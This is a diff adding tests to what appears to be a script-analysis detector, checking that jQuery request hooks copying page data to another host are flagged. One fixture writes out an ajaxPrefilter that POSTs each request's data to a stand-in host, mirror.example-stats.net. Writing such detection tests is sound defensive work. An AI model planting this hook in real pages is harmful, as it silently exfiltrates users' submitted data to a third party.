@@ -846,3 +846,24 @@ describe('channels that only look alike', () => {
     expect(sinks.map((s) => s.kind)).toEqual(['webtransport'])
   })
 })
+
+describe("jQuery's request hooks", () => {
+  const copy = (register: string): string => `;(function ($) {
+    ${register}(function (options, original) {
+      $.ajax({ url: 'https://mirror.example-stats.net/in', type: 'POST', data: { d: JSON.stringify(original.data) } })
+    })
+  })(window.jQuery)`
+  it("a prefilter copying the page's request to a written-out host is a mirror", () => {
+    expect(rules(copy('$.ajaxPrefilter'))).toContain('request-hook-mirror')
+  })
+  it("a key named like jQuery's own definition does not switch the check off", () => {
+    const source = `var decoy = { ajaxPrefilter: 0 }; var d2 = { ajaxPrefilter: String(1) }\n${copy('$.ajaxPrefilter')}`
+    expect(rules(source)).toContain('request-hook-mirror')
+  })
+  it("methods named after Object.prototype's own are no hooks, and nothing fails", () => {
+    const source = `var o = {}; o.__defineSetter__('value', function (v) { this.v = v })
+      o.constructor(function () {}); o.toString(function () {})`
+    const v = analyzeScript(source)
+    expect(v.findings.map((f) => f.rule)).not.toContain('analysis-error')
+  })
+})
